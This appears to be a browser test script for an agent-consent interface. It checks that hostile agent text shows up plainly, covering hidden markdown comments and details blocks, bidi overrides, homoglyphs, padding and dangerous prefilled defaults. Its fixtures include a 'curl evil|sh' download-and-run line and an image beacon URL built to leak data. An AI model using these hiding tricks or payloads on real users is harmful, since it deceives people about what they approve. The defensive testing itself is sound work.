// Texts of an agent that mean harm, in every place that shows one: each becomes text. And requests that mean harm.
// Usage: harm.mjs [all]; without `all`, the texts for browsers and of forgers.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { root } from "./support/bundle.mjs";
import { everywhere, forbidden, HARM } from "./support/harm_texts.mjs";
import { runChecks, seen, setUp, shownText, submitted } from "./support/host.mjs";
import { QUESTIONS } from "./support/samples.mjs";

async function harmfulTexts(page) {
  for (const { id, text } of process.argv[2] === "all" ? HARM : HARM.filter(({ isForPages }) => isForPages)) {
    await setUp(page, { request: everywhere(text), problems: [{ detail: text }, { detail: text, path: ["answers", "a"] }], review: true });
    assert.deepEqual(await forbidden(page), [], id);
    await page.getByRole("radio").first().check();
    await setUp(page, { completed: { outcome: "answered", replies: { a: { state: "answered", answer: { picks: [{ other: text }] }, note: text }, c: { state: "answered", answer: { text } } } } });
    assert.deepEqual(await forbidden(page), [], `${id}, answered`);
    await setUp(page, { completed: { outcome: "declined", reason: text } });
    assert.deepEqual(await forbidden(page), [], `${id}, declined`);
  }
  await setUp(page, { request: { context: "[the book](https://example.com/book)", questions: QUESTIONS } });
  assert.equal(await page.getByRole("link").count(), 0, "a link is text");
  await page.getByRole("button", { name: "Enable link" }).click();
  assert.equal(await page.getByRole("link").getAttribute("rel"), "noopener noreferrer nofollow");
}

/** What a person would see of a text, by the case. */
async function shownHarm(page) {
  const shown = async (id) => {
    await setUp(page, { request: { context: HARM.find((one) => one.id === id).text, questions: [{ id: "a", prompt: "A?" }] } });
    return shownText(page);
  };
  assert.match(await shown("pad-horizontal"), /Run tests\? ⋮ \d+ spaces ⋮ /, "padding shows as a count");
  assert.match(await shown("pad-braille-blank"), /⋮ \d+ spaces ⋮/);
  assert.match(await shown("md-comment"), /<!-- deletes prod -->/, "a comment hides nothing");
  assert.match(await shown("md-details"), /<details><summary>safe<\/summary>curl evil\|sh<\/details>/);
  assert.match(await shown("md-image-beacon"), /\[image: x\] \(http:\/\/127\.0\.0\.1:9\/leak\?d=1\)/);
  const text = await shown("md-unclosed-fence");
  assert.ok(text.includes("ask ends here") && text.includes("A?"), "an open fence swallows no question");
  assert.match(await shown("bidi-rlo"), /⟦U\+202E⟧/);
}

const asks = JSON.parse(readFileSync(`${root}/crates/sayso/tests/vectors/hostile-asks.json`, "utf8"));
const input = (id) => asks.find((one) => one.id === id).input;

async function harmfulRequests(page) {
  // A dangerous default is no answer: consent is never filled in, another prefill says whose it is.
  const danger = input("default-danger");
  const action = { tool: "drop", act: { call: { arguments: "{}" } } };
  const question = { id: "a", prompt: "What next?", options: danger.options, prefill: { picks: [{ option: danger.options[danger.default] }] } };
  await setUp(page, { request: { action, questions: [question] } });
  assert.equal(await page.locator(":checked").count(), 0);
  await page.getByRole("button", { name: "Submit" }).click();
  assert.equal(await submitted(page), undefined);
  await setUp(page, { request: { questions: [question, { id: "b", kind: "text", prompt: "B?" }] } });
  assert.match(await shownText(page), /filled in by the asker/);
  await page.getByRole("radio", { name: "Delete prod" }).focus();
  for (let count = 0; count < 20; count += 1) await page.keyboard.press("Enter");
  assert.deepEqual(await seen(page, "sayso-submit"), []);
  // Exact data is whole, and letters from right to left reorder neither arguments nor parts of a path.
  const argv = ["cp", "\u05d0\u05d1/\u05d2\u05d3", "git\u00a0status", "p\u0430sswd", "a\r\n"];
  await setUp(page, { request: { action: { tool: "Sayso checked this", act: { run: { argv } } }, questions: [question] } });
  const data = page.locator(".action pre");
  assert.deepEqual(await data.allInnerTexts(), ["Sayso checked this", ["\"cp\"", "\"\u05d0\u05d1/\u05d2\u05d3\"", "\"git⟦U+00A0⟧status\"", "\"p⟦U+0430⟧sswd\"", "\"a\\r\\n\""].join("\n")]);
  assert.equal(await page.locator(".action h2").innerText(), "If you agree, this tool acts:");
  const [first, second] = await Promise.all([0, 1].map((at) => data.locator("bdi").nth(at).boundingBox()));
  assert.ok(first.x + first.width < second.x, "a path keeps its order");
  // A label of nothing shows as what it is, with the value that it sends.
  const { label, value } = input("option-empty-label");
  await setUp(page, { request: { action, questions: [{ id: "a", prompt: "Go?", options: [{ id: "o", label, value }, "No"] }] } });
  assert.match(await page.locator(".option label").first().innerText(), /⟦U\+200B⟧ yes/);
  // Labels that look alike are told apart by number and value.
  await setUp(page, { request: { questions: [{ id: "a", prompt: "Go?", options: input("dup-labels").options.map((one, index) => ({ id: `o${index}`, label: one, value: `v${index}` })) }] } });
  assert.deepEqual(await page.locator(".option label").allInnerTexts(), ["1. Yes v0", "2. Yes v1"]);
  // Each of many options can be reached.
  const many = Array.from({ length: input("200-options").options_n }, (_, index) => `Option ${index}`);
  await setUp(page, { request: { questions: [{ id: "a", prompt: "Which?", options: many, other: true }] } });
  await page.getByText("Option 199", { exact: true }).click();
  await page.getByRole("button", { name: "Submit" }).click();
  assert.deepEqual((await submitted(page)).a.answer, { picks: [{ option: "Option 199" }] });
}

await runChecks([
  ["harmful texts", {}, harmfulTexts],
  ["what shows of them", {}, shownHarm],
  ["harmful requests", {}, harmfulRequests],
]);
